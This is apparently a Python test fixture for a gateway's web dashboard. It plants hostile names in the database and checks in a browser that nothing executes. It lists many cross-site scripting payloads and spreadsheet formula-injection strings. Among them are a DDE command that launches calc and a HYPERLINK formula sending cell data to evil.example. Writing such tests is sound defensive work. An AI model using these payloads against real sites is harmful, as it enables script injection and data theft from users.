"""A running gateway whose every name is hostile: of keys, of models, of the service itself.

Names are written straight into the database, past the command line's own grammar.
"""

from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path

import aiosqlite

from gateway import database
from gateway.core.records import KeyRow
from gateway.pages import ROWS_PER_PAGE
from gateway.simulator import Simulator
from tests.browser import Tab
from tests.harness import CREDENTIALS, OPERATOR_CREDENTIAL, Database, now_ms, serving

TAKEN_AS_NAMES = (
    "<script>ran = 1</script>",
    '"><script>alert("ran")</script>',
    "</title></style><script>ran = 1</script>",
    "</code></pre></table><script>ran = 1</script>",
    "<!--><script>ran = 1</script>-->",
    "<img src=x onerror=ran=1>",
    '"><svg onload=ran=1>',
    "' autofocus onfocus=ran=1 x='",
    '" onmouseover="ran=1" style="position:fixed;inset:0',
    '<a href="javascript:ran=1">press</a>',
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    '<base href="//evil.example/"><link rel=stylesheet href=x.css>',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "&lt;script&gt;ran = 1&lt;/script&gt;",
    "{{ 7 * 7 }}{% for x in () %}{# {{ site }}",
    "+ADw-script+AD4-ran=1+ADw-/script+AD4-",
)
"""The command line takes them: they are short and can be printed."""
REFUSED_AS_NAMES = (
    "<scr\0ipt>ran = 1</scr\0ipt><script\0>ran = 1</script>",
    "<img src=x\nonerror=ran=1>",
    "\u202e<b onclick=ran=1 autofocus>\u2066",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran=1&gt;">',
)
PAYLOADS = TAKEN_AS_NAMES + REFUSED_AS_NAMES

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "  =1+1",
    '"=1+1"',
    "=cmd|' /C calc'!A0",
    "=1+1\n=2+2",
    '=HYPERLINK("https://evil.example/?"&A1,"see")',
)

SITE_NAME = '</title></style>"><script>ran = 1</script><img src=x onerror=ran=1>'
HARMLESS = "harmless"
"""The name of a key beside the others, whose models have no hostile names either."""

HARM = """() => [
    ...[...document.querySelectorAll('script, iframe, base')].map(element => element.outerHTML),
    ...[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(name => /^on/.test(name)),
    ...(window.ran === undefined ? [] : ['a script ran']),
]"""
SHAPE = """() => [...document.querySelectorAll('*')].map(
    element => [element.tagName, ...element.getAttributeNames()].join(' '))"""
MODELS_SHOWN = "() => [...document.querySelectorAll('#requests td:nth-child(3)')].map(cell => cell.textContent)"
TEXT_OF = "selector => document.querySelector(selector).textContent"


@dataclass(frozen=True)
class Site:
    """The gateway's address and its keys."""

    origin: str
    keys: dict[str, str]
    """By the key's name."""


@asynccontextmanager
async def attacked(path: Path, names: Sequence[str], models: Sequence[str], **settings: str) -> AsyncIterator[Site]:
    """A key for each name, with a request for each model; the first one's are on two pages."""
    data = Database(path)
    site = Site("", {})
    async with database.connect(path) as connection:
        for name in (*names, HARMLESS):
            site.keys[name], key = await data.create_key(name, models=(name,))
            own = [f"model-{number}" for number, _ in enumerate(models)] if name == HARMLESS else list(models)
            if name == names[0]:
                own += ["filler"] * (ROWS_PER_PAGE - len(own)) + own
            await add_requests(connection, key.row, own)
    async with (
        Simulator(credentials={OPERATOR_CREDENTIAL}) as provider,
        serving(provider, path, CREDENTIALS, **settings) as origin,
    ):
        yield Site(origin, site.keys)


async def add_requests(connection: aiosqlite.Connection, key: KeyRow, models: Sequence[str]) -> None:
    """Newest first, some milliseconds ago."""
    start = now_ms() - len(models)
    rows = [(key, start - number, model) for number, model in enumerate(models)]
    async with database.transaction(connection):
        await connection.executemany(
            "INSERT INTO request VALUES (?, ?, 0, ?, NULL, 840, 100, 50, 20, 1001, 0, NULL)", rows
        )
        await connection.execute("UPDATE request SET status = 200 WHERE key = ?", (key,))


def as_shown(payload: str) -> str:
    """A browser drops NULs; everything else it shows as it is."""
    return payload.replace("\0", "")


async def harm_in(tab: Tab, origin: str) -> list[str]:
    """Everything in a tab that a hostile name has brought about."""
    elsewhere = [address for address in tab.addresses if not address.startswith(f"{origin}/")]
    return [*await tab.run(HARM), *tab.dialogs, *elsewhere]
